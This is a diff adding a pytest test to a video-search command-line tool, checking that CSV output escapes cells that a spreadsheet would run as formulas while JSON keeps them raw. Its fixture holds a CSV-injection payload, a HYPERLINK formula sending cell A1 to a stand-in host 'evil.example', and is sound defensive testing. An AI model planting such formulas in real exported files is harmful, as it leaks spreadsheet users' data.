@@ -242,6 +242,29 @@ def test_table_json_and_csv(folder: Path, capsys) -> None:
     assert rows and all('"quoted"' in row["caption"] for row in rows)
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path: Path, capsys) -> None:
+    """A name or caption starting like a formula (a file anyone may have named) is written
+    after a ``'``, as OWASP advises: a spreadsheet shows it, never runs it; JSON keeps it."""
+    formula = '=HYPERLINK("evil.example?"&A1,"open")'
+    videos = [
+        FakeVideo(formula, ("a red car",)),
+        FakeVideo("@SUM(1+1)", ("-1+1 a red car",)),
+        FakeVideo("plain", ("a red car",)),
+    ]
+    out = write_folder(tmp_path / "out", videos)
+    assert main(["search", str(out), "red car", "--csv"]) == 0
+    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(capsys.readouterr().out))}
+    assert set(rows) == {"'" + formula, "'@SUM(1+1)", "plain"}
+    assert rows["'@SUM(1+1)"]["caption"] == "'-1+1 a red car"
+    assert rows["plain"]["caption"] == "a red car" and rows["plain"]["start"] == "0.0"
+    assert all(
+        not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values()
+    )
+    assert main(["search", str(out), "red car", "--json"]) == 0
+    names = {m["name"] for m in json.loads(capsys.readouterr().out)["moments"]}
+    assert names == {formula, "@SUM(1+1)", "plain"}
+
+
 @pytest.mark.parametrize("columns", [80, 60])
 def test_the_table_fits_the_terminal_in_cells_with_wide_names(
     tmp_path: Path, capsys, monkeypatch, columns: int
